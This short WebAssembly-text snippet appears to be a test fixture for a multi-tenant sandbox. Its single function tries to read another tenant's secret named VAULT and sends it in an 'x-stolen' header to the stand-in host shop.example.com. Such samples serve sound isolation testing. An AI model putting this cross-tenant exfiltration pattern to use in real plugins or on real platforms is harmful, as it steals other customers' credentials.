;; Asks for another tenant's secret by its name.
(func $on_event (param $event i32) (result i32)
    (if (i32.eq (call $kind (local.get $event)) (i32.const 3))
        (then (call $tell (local.get $event)))
        (else
            (call $header (str "x-stolen") (str "{{secret:VAULT}}"))
            (call $http (str "https://shop.example.com/"))))
    (call $done))
